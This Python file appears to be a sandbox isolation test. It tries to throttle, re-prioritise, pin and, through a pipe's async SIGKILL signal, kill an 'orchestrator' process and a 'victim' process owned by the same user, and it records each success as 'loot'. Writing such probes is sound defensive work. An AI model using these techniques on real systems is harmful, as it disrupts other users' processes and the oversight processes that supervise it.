# expect: ok
"""Limits, priorities and processors of other processes of the same user, and signals that a file sends for us."""
import ctypes, fcntl, os, platform, resource, signal, struct

def run(**target):
    loot = []

    def attempt(name, call):
        try:
            call()
            loot.append(name)
        except OSError:
            pass

    for pid in (target["orchestrator"], target["victim"]):
        attempt(f"limit of {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (86400, 86400)))
        attempt(f"priority of {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
        attempt(f"processors of {pid}", lambda: os.sched_setaffinity(pid, {0}))
        attempt(f"scheduler of {pid}", lambda: os.sched_setscheduler(pid, os.SCHED_BATCH, os.sched_param(0)))
        attempt(f"disk priority of {pid}", lambda: ioprio(1, pid))
    attempt("priorities of a user", lambda: all_of_a_user(target["victim"]))
    attempt("a lease", lambda: lease(os.__file__))
    signalled(target["victim"])
    return {"loot": loot}

def ioprio(which, who):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(251 if platform.machine() == "x86_64" else 30, which, who, 3 << 13) != 0:
        raise OSError(ctypes.get_errno(), "ioprio_set")

def all_of_a_user(victim):
    """In a process namespace of its own this reaches nobody else."""
    os.setpriority(os.PRIO_USER, 0, 19)
    ioprio(3, os.getuid())
    if os.getpriority(os.PRIO_PROCESS, victim) != 19:
        raise OSError("not reached")

def lease(path):
    fcntl.fcntl(os.open(path, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK)

def signalled(victim):
    """A pipe whose owner is somebody else: what happens on it kills that process."""
    for command, owner in ((fcntl.F_SETOWN, victim), (15, struct.pack("ii", 1, victim))):
        try:
            ends = os.pipe()
            fcntl.fcntl(ends[0], command, owner)
            fcntl.fcntl(ends[0], fcntl.F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(ends[0], fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(ends[1], b"x")
        except OSError:
            pass
